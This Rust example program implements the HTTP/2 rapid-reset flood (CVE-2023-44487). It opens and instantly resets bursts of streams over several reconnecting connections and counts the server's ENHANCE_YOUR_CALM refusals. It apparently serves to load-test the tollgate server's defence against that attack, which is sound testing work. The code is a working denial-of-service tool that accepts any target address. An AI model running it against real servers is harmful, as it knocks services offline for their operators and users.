//! A rapid-reset flood (CVE-2023-44487): HTTP/2 connections that open
//! streams and reset them at once, as fast as they can, reconnecting when
//! the server closes them. Prints what it sent and how the server answered.
//!
//! ```text
//! cargo run --release -p tollgate --example rapid_reset -- 127.0.0.1:10000 4 10
//! ```
//! (target, connections, seconds). `load-tests/bench-rapid-reset.sh` runs it
//! against tollgate and reports tollgate's CPU.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

#[derive(Default)]
struct Tally {
    streams: AtomicU64,
    connections: AtomicU64,
    goaways: AtomicU64,
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let mut args = std::env::args().skip(1);
    let usage = "usage: rapid_reset HOST:PORT [CONNECTIONS] [SECONDS]";
    let addr: std::net::SocketAddr = args.next().expect(usage).parse().expect(usage);
    let conns: usize = args.next().map_or(4, |n| n.parse().expect(usage));
    let secs: u64 = args.next().map_or(10, |n| n.parse().expect(usage));
    let deadline = Instant::now() + Duration::from_secs(secs);
    let tally = Arc::new(Tally::default());
    let flooders: Vec<_> = (0..conns)
        .map(|_| tokio::spawn(flood(addr, deadline, tally.clone())))
        .collect();
    for f in flooders {
        let _ = f.await;
    }
    println!(
        "streams={} connections={} goaway_enhance_your_calm={}",
        tally.streams.load(Ordering::Relaxed),
        tally.connections.load(Ordering::Relaxed),
        tally.goaways.load(Ordering::Relaxed)
    );
}

async fn flood(addr: std::net::SocketAddr, deadline: Instant, tally: Arc<Tally>) {
    let request = || {
        http::Request::post(format!("http://{addr}/tollgate.test.v1.Echo/Unary"))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap()
    };
    'outer: while Instant::now() < deadline {
        let Ok(tcp) = tokio::net::TcpStream::connect(addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let _ = tcp.set_nodelay(true);
        let Ok((client, conn)) = h2::client::handshake(tcp).await else {
            continue;
        };
        tally.connections.fetch_add(1, Ordering::Relaxed);
        let ended = tokio::spawn(conn);
        let Ok(mut client) = client.ready().await else {
            continue;
        };
        'conn: while Instant::now() < deadline {
            // A burst of 100 streams, each reset as soon as it is open
            // (dropping its handles sends RST_STREAM CANCEL), then a yield
            // so the connection writes them out together.
            for _ in 0..100 {
                match client.send_request(request(), true) {
                    Ok(handles) => {
                        drop(handles);
                        tally.streams.fetch_add(1, Ordering::Relaxed);
                    }
                    Err(_) => break 'conn,
                }
                let Ok(Ok(ready)) =
                    tokio::time::timeout(Duration::from_secs(1), client.ready()).await
                else {
                    continue 'outer;
                };
                client = ready;
            }
            tokio::task::yield_now().await;
        }
        drop(client);
        // The server closes a flooding connection; one that is not closed
        // by the end of the run is let go.
        if let Ok(Ok(Err(e))) = tokio::time::timeout(Duration::from_secs(2), ended).await {
            if e.reason() == Some(h2::Reason::ENHANCE_YOUR_CALM) {
                tally.goaways.fetch_add(1, Ordering::Relaxed);
            }
        }
    }
}
